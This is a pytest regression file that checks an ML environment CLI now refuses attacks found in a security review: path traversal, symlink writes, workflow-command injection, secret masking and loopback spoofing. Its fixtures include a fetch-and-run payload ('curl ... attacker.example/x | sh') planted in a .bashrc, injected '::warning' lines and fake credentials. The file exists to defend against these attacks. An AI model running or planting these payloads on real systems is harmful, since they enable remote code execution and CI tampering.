"""The second attack pass of issue 29: each finding, reproduced through the real code, must now be
refused (one line, a documented exit code) and leave nothing outside where it belongs."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from ml_env_tasks.errors import UsageError
from ml_env_tasks.registry.reference import is_loopback
from ml_env_tasks.safe.redact import Redactor


def ml_env(cwd: Path, *args: str, home: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("ML_ENV_")}
    env.update(XDG_CACHE_HOME=str(home / "cache"), ML_ENV_CONFIG=str(home / "user.toml"),
               ML_ENV_SITE_CONFIG=str(home / "site.toml"), DOCKER_HOST="unix:///nonexistent/docker.sock")  # fmt: skip
    return subprocess.run([sys.executable, "-m", "ml_env_tasks", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=120)  # fmt: skip


def one_line(p: subprocess.CompletedProcess[str], code: int = 2) -> str:
    assert p.returncode == code, p.stdout + p.stderr
    assert "Traceback" not in p.stderr
    lines = [x for x in p.stderr.splitlines() if x.startswith("ml-env: error")]
    assert len(lines) == 1, p.stderr
    return lines[0]


def test_a_versions_entry_hash_is_never_a_path(tmp_path: Path) -> None:
    """C1: the hash of a registered version named the folder its files were restored into."""
    repo, target = tmp_path / "repo", tmp_path / "home"
    (repo / "envs").mkdir(parents=True)
    (repo / "src").mkdir()
    (repo / "src/t.py").write_text("print('hi')\n")
    (repo / "pyproject.toml").write_text('[tool.ml-env]\ntrain_env = "pwn:1"\n')
    for bad in (str(target), "../../../home", "a" * 63 + "/"):
        (repo / "envs/versions.toml").write_text(
            f'[[environment]]\nname = "pwn"\nversion = 1\nhash = "{bad}"\ndigest = ""\nimage = "r/pwn:1"\n'
            'registry = ""\nregistered = "now"\nspec = "name = \\"pwn\\"\\n"\n'
            '[environment.files]\n".bashrc" = "curl -s https://attacker.example/x | sh\\n"\n'
        )
        p = ml_env(repo, "train", "--source", "src", "--script", "t.py", home=tmp_path)
        assert "hash is not a sha256 content hash" in one_line(p)
        assert not target.exists() and not (tmp_path / "cache/versions").exists()


def test_a_restored_version_never_writes_through_a_link(tmp_path: Path) -> None:
    """M5: `get NAME:V -o DIR` wrote DIR/<name>.toml through a committed dangling link."""
    repo, victim = tmp_path / "repo", tmp_path / "victim.txt"
    (repo / "envs").mkdir(parents=True)
    (repo / "envs/versions.toml").write_text(
        f'[[environment]]\nname = "pwn"\nversion = 1\nhash = "{"a" * 64}"\ndigest = ""\nimage = "r/pwn:1"\n'
        'registry = ""\nregistered = "now"\nspec = "name = \\"pwn\\"\\n"\n'
    )
    (repo / "out").mkdir()
    (repo / "out/pwn.toml").symlink_to(victim)
    for extra in ([], ["--force"]):
        p = ml_env(repo, "get", "pwn:1", "-o", "out", *extra, home=tmp_path)
        assert "symlink" in one_line(p) and not victim.exists()


def test_a_project_environment_from_a_subfolder_stays_in_the_project(tmp_path: Path) -> None:
    """M3: train_env = '../outside/host.toml' was checked from the working folder, used from the project's."""
    proj, outside = tmp_path / "proj", tmp_path / "outside"
    (proj / "sub/deep").mkdir(parents=True)
    outside.mkdir()
    (outside / "host.toml").write_text('name = "host"\n[base]\nimage = "127.0.0.1:9/x:1"\n')
    (proj / "pyproject.toml").write_text('[tool.ml-env]\ntrain_env = "../outside/host.toml"\n')
    p = ml_env(proj / "sub/deep", "train", "--source", ".", "--script", "t.py", home=tmp_path)
    assert "outside the project" in one_line(p)


def test_the_project_cannot_drop_the_users_gates(tmp_path: Path) -> None:
    """M2: `require = []` in pyproject.toml removed the smoke-test gate the user's config sets."""
    proj = tmp_path / "proj"
    proj.mkdir()
    (tmp_path / "user.toml").write_text('require = ["smoke-test"]\n')
    (proj / "pyproject.toml").write_text("[tool.ml-env]\nrequire = []\n")
    p = ml_env(proj, "config", "--json", home=tmp_path)
    assert p.returncode == 0, p.stderr
    from ml_env_tasks.commands.parse import parse

    old = os.getcwd()
    os.chdir(proj)
    try:
        os.environ["ML_ENV_CONFIG"], os.environ["ML_ENV_SITE_CONFIG"] = str(tmp_path / "user.toml"), str(tmp_path / "n")
        values = parse(["promote", "127.0.0.1:9/a:1", "127.0.0.1:9/b", "--tag", "t"]).values
    finally:
        os.chdir(old)
        del os.environ["ML_ENV_CONFIG"], os.environ["ML_ENV_SITE_CONFIG"]
    assert values.require == ["smoke-test"]


@pytest.mark.parametrize("flag", ["--source", "--runs-dir", "--input"])
def test_a_committed_link_out_of_the_checkout_is_refused(tmp_path: Path, flag: str) -> None:
    """H3/M4: a workflow names ./data, runs or src; the pull request commits it as a link to a host folder."""
    repo, host = tmp_path / "repo", tmp_path / "host-home"
    (host / ".docker").mkdir(parents=True)
    (host / ".docker/config.json").write_text('{"auths": {"x": {"auth": "SECRET-RUNNER-CRED"}}}')
    repo.mkdir()
    (repo / "src").mkdir()
    (repo / "link").symlink_to(host)
    args = {"--source": ["--source", "link"], "--runs-dir": ["--source", "src", "--runs-dir", "link"],
            "--input": ["--source", "src", "--input", "data=link"]}[flag]  # fmt: skip
    p = ml_env(repo, "train", "--env", "127.0.0.1:9/x:1", "--script", "t.py", *args, home=tmp_path)
    assert "leads out of the working folder through a symlink" in one_line(p)
    assert "SECRET-RUNNER-CRED" not in p.stdout + p.stderr


def test_paths_the_user_wrote_are_theirs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from ml_env_tasks.safe.paths import no_link_out

    (tmp_path / "w").mkdir()
    (tmp_path / "w/inside").mkdir()
    (tmp_path / "w/link").symlink_to(tmp_path / "w/inside")
    monkeypatch.chdir(tmp_path / "w")
    for ok in (Path("inside"), Path("link"), Path("../elsewhere"), tmp_path / "anything", Path("not/there/yet")):
        assert no_link_out(ok, "--x") == ok
    (tmp_path / "w/out").symlink_to(tmp_path)
    with pytest.raises(UsageError, match="through a symlink"):
        no_link_out(Path("out/sub"), "--x")


def test_smoke_reports_never_write_through_a_committed_link(tmp_path: Path) -> None:
    """H2: .ml-env/smoke/smoke-test.json committed as a link to the runner's ~/.bashrc."""
    from types import SimpleNamespace

    from ml_env_tasks.serve.smoke import write_reports

    d = tmp_path / "smoke"
    d.mkdir()
    victim_js, victim_xml = tmp_path / "bashrc", tmp_path / "profile"
    (d / "smoke-test.json").symlink_to(victim_js)
    (d / "smoke-test.junit.xml").symlink_to(victim_xml)
    report = SimpleNamespace(to_json=lambda: {"cases": []}, cases=[], passed=0, failed=0, seconds=0.0, logs_tail="",
                             image="i", ready_s=0.0)  # fmt: skip
    js, xml = write_reports(report, d, tmp_path / "cases.jsonl")  # type: ignore[arg-type]
    assert not victim_js.exists() and not victim_xml.exists()
    assert not js.is_symlink() and json.loads(js.read_text()) == {"cases": []} and not xml.is_symlink()


def test_action_text_runs_no_workflow_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """M1: a case name (or a server's answer) with a newline and '::warning' became a workflow command."""
    from types import SimpleNamespace

    import ml_env_tasks.serve.smoke as smoke
    from ml_env_tasks.fronts import gha

    hostile = "x\n::warning title=pwn::injected\n::stop-commands::gone"
    case = SimpleNamespace(passed=False, name=hostile, status=500, latencies_ms=[1.0], message=hostile, line=1)
    report = SimpleNamespace(cases=[case], passed=0, failed=1, image="i", ready_s=0.1, p50_ms=1.0, p95_ms=1.0,
                             max_ms=1.0, logs_tail="", to_json=lambda: {})  # fmt: skip
    for k, v in {"INPUT_ENV": "e", "INPUT_CASES": str(tmp_path / "c.jsonl"), "INPUT_REPORT_DIR": str(tmp_path),
                 "INPUT_NO_RECORD": "true", "GITHUB_OUTPUT": str(tmp_path / "o"),
                 "GITHUB_STEP_SUMMARY": str(tmp_path / "s")}.items():  # fmt: skip
        monkeypatch.setenv(k, v)
    monkeypatch.setattr(smoke, "run_smoke_test", lambda *a, **k: report)
    assert gha.run_action("smoke-test") == 1
    out = capsys.readouterr().out.splitlines()
    stop = [i for i, x in enumerate(out) if x.startswith("::stop-commands::")]
    live = [x for i, x in enumerate(out) if not any(s <= i <= s + 3 for s in stop)]
    assert not [x for x in out if x.startswith(("::warning", "::stop-commands::gone"))]
    assert all(not x.startswith("::") or x.startswith(("::error", "::group", "::endgroup", "::stop", "::ml-env"))
               for x in live), live  # fmt: skip


def test_a_multi_line_secret_is_masked_line_by_line() -> None:
    """L1: a PEM key passed with --secret was masked only as a whole, and the log is masked per line."""
    r = Redactor()
    key = "-----BEGIN PRIVATE KEY-----\nMIIEvQ-SECRET-BODY-LINE\n-----END PRIVATE KEY-----"
    r.add(key)
    assert "MIIEvQ-SECRET-BODY-LINE" not in r("printed: MIIEvQ-SECRET-BODY-LINE")


@pytest.mark.parametrize("host", ["127.0.0.1:1@evil.example", "[::1]@evil.example", "localhost@evil", "127.0.0.1/x"])
def test_user_info_never_makes_a_host_loopback(host: str) -> None:
    """L2: is_loopback('127.0.0.1:1@evil.example') was true (plain http allowed to evil.example)."""
    assert not is_loopback(host)


@pytest.mark.parametrize(
    ("args", "why"),
    [
        (["--user", "99999999999999999999"], "at most 2147483647"),  # was an OverflowError, exit 70
        (["--cpus", "1e-20"], "between 0.001 and 1024"),  # was NanoCPUs 0: no limit at all
        (["--memory", "99999999999g"], "memory"),
    ],
)
def test_numbers_past_what_an_engine_takes_are_one_usage_line(tmp_path: Path, args: list[str], why: str) -> None:
    (tmp_path / "src").mkdir()
    (tmp_path / "src/t.py").write_text("print(1)\n")
    p = ml_env(tmp_path, "train", "--env", "127.0.0.1:9/x:1", "--source", "src", "--script", "t.py", *args,
               home=tmp_path)  # fmt: skip
    assert why in one_line(p)


def test_a_shared_memory_size_past_a_pebibyte_is_not_a_size(tmp_path: Path) -> None:
    (tmp_path / "s.toml").write_text(
        'name = "s"\n[base]\nimage = "127.0.0.1:9/x:1"\n[docker]\nshm_size = "99999999p"\n'
    )
    assert "docker.shm_size: is not a size" in one_line(ml_env(tmp_path, "hash", "s.toml", home=tmp_path))
